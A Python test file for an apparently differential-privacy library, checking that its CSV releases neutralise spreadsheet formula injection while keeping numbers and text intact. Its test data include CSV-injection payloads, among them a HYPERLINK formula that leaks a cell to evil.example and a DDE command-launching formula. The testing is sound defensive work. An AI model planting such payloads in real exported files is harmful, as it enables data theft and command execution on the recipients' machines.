"""CSV in which no spreadsheet finds a formula: numbers stay numbers, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

import sfumato as sf
from sfumato.display.formatting import guarded, unguarded
from sfumato.release.release_files import with_formulas, without_formulas
from sfumato.service.answer_formats import CSV, Answer, encoded

pytestmark = pytest.mark.noise_cannot_matter("texts are compared, whatever the numbers are")

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"more")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠1",
    "=cmd|' /C calc'!A0", "-5", "+49 30 1234",
]  # fmt: skip
TEXTS = [
    *FORMULAS,
    *(f"'{text}" for text in FORMULAS),
    "''=1",
    "'",
    "''",
    "'t Hof",
    "Ulm",
    "",
    "NA",
    "a=1",
    " =1",
    "1",
]
NAME = '=HYPERLINK("x")'
ROWS = pa.table({"id": range(len(TEXTS)), "k": TEXTS, "v": [-7] * len(TEXTS)})


def released(**more: Any) -> Any:
    table = sf.scan(ROWS.rename_columns(["id", NAME, "v"]), privacy_unit="id").group_by(NAME, keys=TEXTS)
    asked = {"n": sf.count(), "-s": sf.sum("v", lower=-10, upper=0), "m": sf.mean("v", lower=-10, upper=0)}
    return table.bound(groups=1, rows=1).agg(**asked).release(epsilon=1_000, **more)


def is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def harmless(text: str) -> list[list[str]]:
    """Read CSV, and fail where a cell is a formula; numbers, negative ones too, stand as they are."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    quoted = text.replace('""', "")
    for cell in (cell for row in rows for cell in row):
        # A number is one only outside quotes: a text that looks like one is guarded, too.
        bare = is_number(cell) and f'"{cell}"' not in quoted
        assert bare or not cell.startswith(tuple("=+-@\t\r\n＝＋－＠")), cell
    return rows


def test_every_text_comes_back() -> None:
    for text in TEXTS:
        assert unguarded(guarded(text)) == text and (guarded(text) == text) == (
            text.lstrip("'")[:1] not in "=+-@\t\r\n＝＋－＠" or not text.strip("'")
        )
    for kind in (pa.string(), pa.large_string(), pa.string_view(), pa.dictionary(pa.int32(), pa.string())):
        column = (
            pa.array([*TEXTS, None]).cast(kind)
            if not pa.types.is_dictionary(kind)
            else pa.array([*TEXTS, None]).dictionary_encode()
        )
        batch = without_formulas(
            pa.RecordBatch.from_arrays([column, pa.array([-1.5] * len(column))], ["=a", "-b"])
        )
        assert batch.schema.names == ["'=a", "'-b"] and batch.column(1).to_pylist() == [-1.5] * len(column)
        assert batch.column(0).to_pylist() == [*map(guarded, TEXTS), None]
        assert with_formulas(pa.chunked_array([batch.column(0)])).to_pylist() == [*TEXTS, None]


@pytest.mark.parametrize("streamed", [True, False])
def test_a_release_is_written_without_formulas_and_read_back_as_it_was(
    tmp_path: Path, streamed: bool
) -> None:
    release = released()
    if not streamed:
        release.to_arrow()
    release.write(tmp_path / "a.csv")
    rows = harmless((tmp_path / "a.csv").read_bytes().decode())
    assert rows[0] == [f"'{NAME}", "n", "'-s", "m"] and all(
        is_number(cell) for row in rows[1:] for cell in row[1:]
    )
    assert any(row[2].startswith("-") for row in rows[1:])
    table = release.to_arrow()
    assert sorted(table[NAME].to_pylist()) == sorted(TEXTS) and table.column_names == [NAME, "n", "-s", "m"]
    assert sorted(row[0] for row in rows[1:]) == sorted(map(guarded, TEXTS))
    receipt = release.receipt()
    assert receipt.verify(tmp_path / "a.csv").ok and receipt.verify(table).ok
    changed = (tmp_path / "a.csv").read_bytes().replace(b"'=1+1", b"'=1+2")
    (tmp_path / "b.csv").write_bytes(changed)
    assert not receipt.verify(tmp_path / "b.csv").ok


def test_error_bars_beside_names_that_are_formulas(tmp_path: Path) -> None:
    release = released(confidence=0.9)
    release.to_arrow()
    release.write(tmp_path / "a.csv", errors=True)
    assert harmless((tmp_path / "a.csv").read_bytes().decode())[0][3:5] == ["'-s", "'-s_error"]
    assert release.receipt(errors=True).verify(tmp_path / "a.csv").ok


def test_a_file_of_an_older_version_agrees_as_well(tmp_path: Path) -> None:
    """It had no guard: a text that begins like a formula stood as it was."""
    rows = pa.table({"id": range(3), "k": ["=1+1", "-5", "Ulm"]})
    table = sf.scan(rows, privacy_unit="id").group_by("k", keys=["=1+1", "-5", "Ulm"])
    release = table.bound(groups=1).agg(n=sf.count_units()).release(epsilon=1)
    numbers = {row["k"]: row["n"] for row in release.to_arrow().to_pylist()}
    text = "".join(f'"{key}",{number}\n' for key, number in numbers.items())
    (tmp_path / "old.csv").write_text('"k","n"\n' + text)
    assert release.receipt().verify(tmp_path / "old.csv").ok


def test_the_service_writes_the_same() -> None:
    table = pa.table({NAME: pa.array(TEXTS), "-n": [-3] * len(TEXTS), "b": [b"\xfb\xef\xbe"] * len(TEXTS)})
    made = Answer(table, {"-n": pa.chunked_array([[1.5] * len(TEXTS)])}, (NAME,), {})
    rows = harmless(encoded(made, CSV).decode())
    assert rows[0] == [f"'{NAME}", "'-n", "'-n_error", "b"]
    assert rows[1:] == [[guarded(text), "-3", "1.5", "'++++"] for text in TEXTS]
    empty = Answer(table.slice(0, 0), {}, (NAME,), {})
    assert encoded(empty, CSV).decode() == '"\'=HYPERLINK(""x"")","\'-n","b"\n'


def test_budget_export_is_guarded_by_the_same_function() -> None:
    from sfumato.cli import ledger_command as budget

    row = dict.fromkeys(budget._COLUMNS, "") | {
        "what": "＝1+1",
        "analyst": "'=1",
        "epsilon": "1/3",
        "entry": 3,
    }
    (_, cells) = harmless(budget._csv([row]))
    assert cells[0] == "3" and "'＝1+1" in cells and "''=1" in cells and "1/3" in cells


def test_json_is_as_it_was(tmp_path: Path) -> None:
    release = released()
    release.write(tmp_path / "a.json")
    lines = (tmp_path / "a.json").read_bytes().splitlines()
    assert sorted(json.loads(line)[NAME] for line in lines) == sorted(TEXTS)
